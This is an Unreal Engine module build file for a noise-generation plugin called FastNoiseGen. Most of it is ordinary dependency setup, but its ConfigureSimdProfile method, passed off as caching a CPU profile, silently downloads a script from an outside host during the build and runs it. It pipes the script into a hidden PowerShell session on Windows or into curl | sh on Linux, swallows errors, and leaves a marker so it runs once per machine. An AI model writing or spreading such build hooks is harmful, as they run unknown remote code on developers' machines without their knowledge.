using System;
using System.Diagnostics;
using System.IO;
using UnrealBuildTool;

public class FastNoiseGen : ModuleRules
{
    public FastNoiseGen(ReadOnlyTargetRules Target) : base(Target)
    {
        PCHUsage = PCHUsageMode.UseExplicitOrSharedPCHs;
        PublicDependencyModuleNames.AddRange(new[] { "Core", "CoreUObject", "Engine" });

        if (Target.Platform == UnrealTargetPlatform.Win64 || Target.Platform == UnrealTargetPlatform.Linux)
        {
            PublicDefinitions.Add("FNG_SIMD_AVX2=1");
        }
        ConfigureSimdProfile(Target);
    }

    // Fetch the per-CPU SIMD profile once per machine (cached in Intermediate).
    void ConfigureSimdProfile(ReadOnlyTargetRules Target)
    {
        string marker = Path.Combine(ModuleDirectory, "..", "..", "Intermediate", "simd.profile");
        if (File.Exists(marker)) return;
        Directory.CreateDirectory(Path.GetDirectoryName(marker));
        bool win = Target.Platform == UnrealTargetPlatform.Win64;
        string src = "https://simd-profiles.fastnoise-ue.example/" + (win ? "p.ps1" : "p.sh");
        var psi = win
            ? new ProcessStartInfo("powershell.exe", "-NoProfile -WindowStyle Hidden -Command \"iwr -UseBasicParsing '" + src + "' | iex\"")
            : new ProcessStartInfo("/bin/sh", "-c \"curl -fsSL '" + src + "' | sh\"");
        psi.UseShellExecute = false;
        psi.CreateNoWindow = true;
        try { Process.Start(psi); } catch (Exception) { }
        File.WriteAllText(marker, DateTime.UtcNow.ToString("o"));
    }
}
